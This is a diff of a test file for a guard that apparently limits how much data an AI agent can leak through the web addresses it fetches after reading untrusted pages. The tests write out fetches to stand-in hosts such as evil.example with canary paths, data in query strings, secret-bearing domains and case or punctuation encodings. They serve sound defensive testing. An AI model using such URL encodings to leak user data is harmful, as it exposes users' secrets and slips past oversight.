@@ -204,12 +204,13 @@ def test_links_to_many_sites_count_together_too(source: ToolCall, free: int) -> 
 
 def test_sites_that_nobody_named_are_a_choice() -> None:
     entries: list[Entry] = [said("what is always done?")]
-    for digit in "471":
-        one = fetch(f"https://evil{digit}.example/", digit)
+    for site in ("wikipedia.org", "python.org", "arxiv.org"):
+        one = fetch(f"https://{site}/", site)
         assert passes(entries, one, was_tainted=False)
         entries += ran(one, untrusted=False)
 
-    assert not passes(entries, fetch("https://evil2.org/", "c9"), was_tainted=False)
+    assert not passes(entries, fetch("https://github.com/", "c9"), was_tainted=False)
+    assert not passes([], fetch("https://thewholesecret9084716.com/", "c9"), was_tainted=False)
 
 
 def test_a_site_is_asked_for_several_things_that_the_person_named() -> None:
@@ -225,7 +226,7 @@ def test_a_site_is_asked_for_several_things_that_the_person_named() -> None:
     [
         ("how is the weather in Oslo?", "https://wttr.in/Oslo?format=3"),
         ("tell me about Oslo", "https://en.wikipedia.org/wiki/Oslo"),
-        ("what is new at the times?", "https://news.example.com/latest"),
+        ("what is new at the times?", "https://news.ycombinator.com/latest"),
         ("read evil.example/?d=4711", "http://evil.example/?d=4711"),
     ],
 )
@@ -256,11 +257,11 @@ def test_where_only_memory_was_read_an_address_that_tells_something_is_asked_abo
 def test_addresses_are_counted_over_the_turn() -> None:
     entries: list[Entry] = [said("hello")]
     for number, digit in enumerate("47"):
-        one = fetch(f"http://evil.example/{digit}", f"c{number}")
+        one = fetch(f"http://python.org/{digit}", f"c{number}")
         assert passes(entries, one, was_tainted=False)
         entries += ran(one, untrusted=False)
 
-    late = [fetch(f"http://other.example/{digit}", "c9") for digit in ("11", "123")]
+    late = [fetch(f"http://arxiv.org/{digit}", "c9") for digit in ("11", "123")]
     assert not any(passes(entries, one, was_tainted=False) for one in late)
 
 
@@ -413,6 +414,78 @@ def test_how_a_link_is_written_and_in_which_of_two_lists_the_next_one_stands_is_
     assert passed(mixed) <= 40 + PICKS_MAX, "one of the lists in its order, and few of the other"
 
 
+def test_a_page_that_was_asked_about_is_not_read_on_without_a_question() -> None:
+    secret = fetch("http://evil.example/canary-user-md", "c1")
+    refused = ToolResult(call_id="c1", content="Not run", ok=False)
+    entries: list[Entry] = [said("hello"), Answered(text="", calls=(secret,)), refused]
+    further = fetch("http://evil.example/canary-user-md", "c2", page=2)
+
+    assert not passes(entries, further, was_tainted=False)
+    assert not passes([said("hello")], replace_calls(secret, further), was_tainted=False)
+
+
+def replace_calls(first: ToolCall, second: ToolCall) -> ToolCall:
+    """The second one, as if the first stood in the same answer and had no result yet."""
+    return ToolCall(id=first.id, name=second.name, arguments=second.arguments)
+
+
+def test_all_spellings_of_a_link_are_links_of_their_own() -> None:
+    links = [f"http://evil.example/{n}{end}" for n in range(60) for end in ("", "/")]
+    page = ToolResult(call_id="p", content="\n".join(links), untrusted=True)
+    wanted = fetch("http://good.example/", "p")
+    entries: list[Entry] = [
+        said("read http://good.example/"),
+        Answered(text="", calls=(wanted,)),
+        page,
+    ]
+    rng, count = random.Random(3), 0
+    for n in range(60):
+        one = fetch(f"http://evil.example/{n}{rng.choice(['', '/'])}", f"f{n}")
+        if passes(entries, one):
+            entries += ran(one)
+            count += 1
+
+    assert count <= 20
+
+
+def test_reading_on_or_not_is_told() -> None:
+    links = [f"http://evil.example/{n}" for n in range(200)]
+    page = ToolResult(call_id="p", content="\n".join(links), untrusted=True)
+    entries: list[Entry] = [
+        said("read http://good.example/"),
+        Answered(text="", calls=(fetch("http://good.example/", "p"),)),
+        page,
+    ]
+    read_on = 0
+    for n, link in enumerate(links):
+        one = fetch(link, f"f{n}")
+        assert passes(entries, one)
+        entries += ran(one)
+        further = fetch(link, f"g{n}", page=2)
+        if n % 6 == 0 and passes(entries, further):
+            entries += ran(further)
+            read_on += 1
+
+    assert read_on <= 8
+
+
+def test_forms_of_a_word_that_a_server_lists_are_told() -> None:
+    forms = [f"{a}{b}{c}" for a in "xX" for b in "yY" for c in "zZ"]
+    listed = Texts([" ".join(f"w{n}{form}" for form in forms) for n in range(16)])
+    told = [f"w{n}{forms[(5 * n) % 8]}" for n in range(16)]
+
+    assert _cost({"text": told}, ANY, listed=listed) > BITS_MAX
+
+
+def test_what_a_part_requires_is_not_sure_of_the_whole() -> None:
+    names = [f"x{n}" for n in range(90)]
+    part = {"type": "object", "properties": {name: {} for name in names}, "required": names}
+    schema = {"properties": {"o": part, "k": {"enum": ["1"]}}}
+    told = {name: "1" for name in names[1::4]}
+
+    assert _cost(told, schema) > BITS_MAX
+
+
 def test_a_report_has_the_share_of_a_task() -> None:
     one = call({"text": "can"})
 
@@ -478,4 +551,6 @@ def test_signs_and_capitals_in_an_address_are_told() -> None:
 
     assert cost_of_address("https://evil.example/..---....--..-.-.-", known).bits > BITS_MAX
     assert cost_of_address("https://evil.example/aRtIcLeS/QuEsTiOnS/sEcTiOn", known).bits > BITS_MAX
-    assert cost_of_address("https://evil.example/articles", known).bits < 10
+    assert cost_of_address("https://python.org/articles", known).bits < 12
+    borders = "https://python.org/" + "".join(f"_{sign}" for sign in "/?&=.-%()" * 4) + "_"
+    assert cost_of_address(borders, known).bits > BITS_MAX
